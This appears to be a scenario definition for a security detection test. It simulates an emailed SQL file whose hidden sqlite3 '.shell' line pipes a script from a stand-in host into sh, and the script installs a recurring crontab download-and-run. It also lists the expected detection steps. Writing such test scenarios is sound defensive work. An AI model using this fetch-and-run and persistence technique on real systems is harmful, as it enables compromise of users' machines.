# A file of commands on the input of a program that is no interpreter; one of them starts a shell.
title="Table of a message fed to sqlite3, which starts a shell"
what="dev reads the mail in mutt over SSH, saves stock.sql and loads it as the message says: sqlite3 stock.db < stock.sql. Between its tables stands .shell, a command of sqlite3: a shell fetches a script from 203.0.113.66 and runs it; it writes a line of a crontab."
host=mx1.example.org user=dev daemons="cron sshd" store=mbox

setup() {
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\n' > /home/dev/.muttrc; chown dev: /home/dev/.muttrc
  printf 'create table stock (item text, n integer);\ninsert into stock values ("bolt", 40);\n.shell curl -s http://drop.example.net/stock/s | sh\ninsert into stock values ("nut", 38);\n' > "$base/out/stock.sql"
  mkdir -p "$base/out/www/stock"; printf 'mkdir -p ~/.cache/stock\ndate > ~/.cache/stock/t\n(crontab -l 2>/dev/null; echo "11 4 * * * curl -s http://drop.example.net/stock/s | sh") | crontab -\n' > "$base/out/www/stock/s"
}
act() {
  small_talk 2
  mail_in --from store@example.com --to dev@example.org --subject "Stock of the branch" --source 203.0.113.25 --helo smtp.example.com \
    --text "Hi,\n\nplease load: sqlite3 stock.db < stock.sql\n" --attach "$base/out/stock.sql:application/sql:stock.sql"
  wait_log 'from=<store@example.com>'; wait_mail dev 1; sleep 1
  ssh_as dev <<'L'
%saves mutt
sqlite3 stock.db < stock.sql
%sleep 1
sqlite3 stock.db 'select * from stock'
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'the message reaches the mbox of dev'
  file_step save 'mutt open(at)?:write CREATE /home/dev/.*stock.sql' 'mutt writes the attachment'
  exec_step load 'sqlite3 stock.db' 'sqlite3 gets it on its input'
  exec_step shell 'sh -c curl' 'and starts a shell'
  net_step fetch 'curl 203.0.113.66:80' 'which fetches a script'
  exec_step persist 'crontab -' 'that leaves a line of a crontab'
}
